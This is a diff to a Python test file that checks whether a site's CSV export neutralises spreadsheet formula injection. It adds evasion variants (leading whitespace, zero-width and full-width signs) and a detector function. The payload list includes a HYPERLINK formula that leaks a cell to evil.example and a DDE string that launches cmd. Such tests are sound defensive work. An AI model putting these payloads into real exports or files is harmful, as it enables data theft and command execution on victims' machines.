@@ -40,6 +40,18 @@ FORMULAS = [
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
     "\r=1+1",
+    # Spreadsheets skip white space before a formula and read full-width signs as ASCII ones.
+    ' =HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "\n=1+1",
+    "\r\n+1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    '＝HYPERLINK("http://evil.example/")',
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    " \n ＝1+1",
+    "﹦1+1",
 ]
 JS_URLS = [
     "javascript:window.__pwned=100",
@@ -356,6 +368,16 @@ def test_json_export_round_trips_hostile_text(site):
 
 TEXT_COLUMNS = ["url", "title", "exact", "prefix", "suffix", "suggestions", "comments", "note"]
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# What spreadsheets read as these signs (full-width and small forms).
+LOOK_ALIKES = {"＝": "=", "＋": "+", "－": "-", "＠": "@", "﹦": "=", "﹢": "+", "﹣": "-", "﹫": "@"}
+
+
+def runs(cell: str) -> bool:
+    """Whether a spreadsheet would run the cell: a formula sign first, after any white space."""
+    if cell.startswith(FORMULA_START):
+        return True
+    rest = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
+    return bool(rest) and LOOK_ALIKES.get(rest[0], rest[0]) in FORMULA_START[:4]
 
 
 def test_csv_export_parses_back_and_runs_no_formula(site):
@@ -366,14 +388,14 @@ def test_csv_export_parses_back_and_runs_no_formula(site):
     assert len(rows) == len(sent)
     for row in rows:
         for column in TEXT_COLUMNS:
-            assert not row[column].startswith(FORMULA_START), (column, row[column])
+            assert not runs(row[column]), (column, row[column])
         s = sent[int(row["id"])]
         for column, value in [
             ("url", pages[int(row["id"])]), ("title", s["title"]), ("exact", s["exact"]), ("prefix", s["prefix"]),
             ("suffix", s["suffix"]), ("suggestions", s["suggestion"]), ("comments", s["comment"]),
         ]:  # fmt: skip
             # Exactly the reader's text; a cell a spreadsheet would run gets a leading "'" (docs/export.md).
-            expected = "'" + value if value.startswith(FORMULA_START) else value
+            expected = "'" + value if runs(value) else value
             assert row[column] == expected, (column, value)
     neutralised = [
         row for row in rows if row["comments"].startswith("'") and sent[int(row["id"])]["comment"] in FORMULAS
